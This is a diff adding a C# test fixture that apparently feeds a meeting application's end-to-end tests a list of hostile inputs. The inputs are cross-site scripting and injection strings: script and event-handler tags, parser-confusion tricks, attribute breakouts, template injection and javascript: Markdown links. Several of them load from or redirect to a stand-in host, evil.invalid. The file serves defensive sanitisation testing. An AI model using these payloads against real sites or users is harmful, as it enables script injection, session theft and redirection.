@@ -1,0 +1,103 @@
+namespace MeetingHub.EndToEnd;
+
+/// <summary>What somebody hostile would type, wherever something can be typed. Each sets <c>window.ran</c>, opens a dialogue, asks another host, or breaks out of what it stands in.</summary>
+internal static class HostileTexts
+{
+    /// <summary>In HTML, in attributes, in script, in style, in Markdown: no two of them in the same way.</summary>
+    public static IReadOnlyList<string> All { get; } =
+    [
+        // Elements that run.
+        "<script>window.ran=1</script>",
+        "<ScRiPt>window.ran=1</sCrIpT>",
+        "<script src=https://evil.invalid/x.js></script>",
+        "<script\n>window.ran=1</script\n>",
+        "<svg><script>window.ran=1</script></svg>",
+        "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
+        "<iframe src=javascript:parent.ran=1></iframe>",
+        "<object data=javascript:window.ran=1>",
+        "<embed src=javascript:window.ran=1>",
+        "<template><script>window.ran=1</script></template>",
+        // Attributes that run.
+        "<img src=x onerror=window.ran=1>",
+        "<IMG SRC=x ONERROR=window.ran=1>",
+        "<img/src=x/onerror=window.ran=1>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=x onerror\n=\nwindow.ran=1>",
+        "<img src=x onerror=\"&#119;indow.ran=1\">",
+        "<svg onload=window.ran=1>",
+        "<svg/onload=window.ran=1//",
+        "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
+        "<body onload=window.ran=1>",
+        "<body onpageshow=window.ran=1>",
+        "<details open ontoggle=window.ran=1>",
+        "<input autofocus onfocus=window.ran=1>",
+        "<select autofocus onfocus=window.ran=1>",
+        "<textarea autofocus onfocus=window.ran=1>",
+        "<video><source onerror=window.ran=1></video>",
+        "<audio src=x onerror=window.ran=1>",
+        "<style onload=window.ran=1></style>",
+        "<p style=\"animation:x\" onanimationstart=window.ran=1>x</p><style>@keyframes x{}</style>",
+        // What HTML's parser reads otherwise than who filters it.
+        "<math><mtext></p><img src onerror=window.ran=1>",
+        "<math><mi><mglyph><style><img src=x onerror=window.ran=1>",
+        "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
+        "<!--<img src=\"--><img src=x onerror=window.ran=1//\">",
+        "<![CDATA[<img src=x onerror=window.ran=1>]]>",
+        "<xmp><img src=x onerror=window.ran=1></xmp>",
+        "<svg></p><style><a id=\"</style><img src=x onerror=window.ran=1>\">",
+        "<<img src=x onerror=window.ran=1>",
+        "<a<img src=x onerror=window.ran=1>",
+        "&lt;img src=x onerror=window.ran=1&gt;",
+        "\\u003cimg src=x onerror=window.ran=1\\u003e",
+        "<scr\0ipt>window.ran=1</scr\0ipt>",
+        // Out of what a page writes it into.
+        "\"><script>window.ran=1</script>",
+        "'><img src=x onerror=window.ran=1>",
+        "\" autofocus onfocus=\"window.ran=1",
+        "' autofocus onfocus='window.ran=1",
+        "</title><img src=x onerror=window.ran=1>",
+        "</textarea><script>window.ran=1</script>",
+        "</script><script>window.ran=1</script>",
+        "</option></select><img src=x onerror=window.ran=1>",
+        "</main></body></html><img src=x onerror=window.ran=1>",
+        "--><img src=x onerror=window.ran=1>",
+        "\\\"};window.ran=1;//",
+        "';window.ran=1;//",
+        "${window.ran=1}",
+        "{{constructor.constructor('window.ran=1')()}}",
+        "@(window.ran=1)",
+        // What leads elsewhere, or asks there.
+        "<meta http-equiv=refresh content=\"0;url=https://evil.invalid\">",
+        "<base href=https://evil.invalid>",
+        "<link rel=stylesheet href=https://evil.invalid/x.css>",
+        "<style>@import 'https://evil.invalid/x.css'</style>",
+        "<p style=\"background:url(https://evil.invalid)\">x</p>",
+        "<form action=https://evil.invalid><button>x</button></form>",
+        "<a href=//evil.invalid ping=//evil.invalid>x</a>",
+        "<a href=\"javascript:window.ran=1\">x</a>",
+        // By way of Markdown.
+        "[x](javascript:window.ran=1)",
+        "[x](JaVaScRiPt:window.ran=1)",
+        "[x](java\tscript:window.ran=1)",
+        "[x](&#106;avascript:window.ran=1)",
+        "[x](vbscript:window.ran=1)",
+        "[x](data:text/html,<script>window.ran=1</script>)",
+        "[x]: javascript:window.ran=1\n\n[x]",
+        "<javascript:window.ran=1>",
+        "<https://x.invalid/\"onmouseover=\"window.ran=1>",
+        "![x](x\"onerror=\"window.ran=1)",
+        "![x](https://evil.invalid/x.png)",
+        "![x](data:image/svg+xml,<svg/onload=window.ran=1>)",
+        "# <img src=x onerror=window.ran=1>",
+        "- [ ] <img src=x onerror=window.ran=1>",
+        "| <script>window.ran=1</script> | b |\n|---|---|\n| [x](javascript:window.ran=1) | c |",
+        "*[HTML]: \" onmouseover=\"window.ran=1\n\nHTML",
+        "[^x]: <script>window.ran=1</script>\n\n[^x]",
+        "[x]{onclick=window.ran=1}",
+        "```\" onmouseover=\"window.ran=1\n<script>window.ran=1</script>\n```",
+        "ACTION: <img src=x onerror=window.ran=1>",
+    ];
+
+    /// <summary>The same as names of files; a slash would end the folder, a line the header that sends the name.</summary>
+    public static IReadOnlyList<string> FileNames { get; } = [.. All.Select(text => string.Concat(text.Select(c => c is '/' or '\\' ? '∕' : char.IsControl(c) ? ' ' : c))).Distinct()];
+}
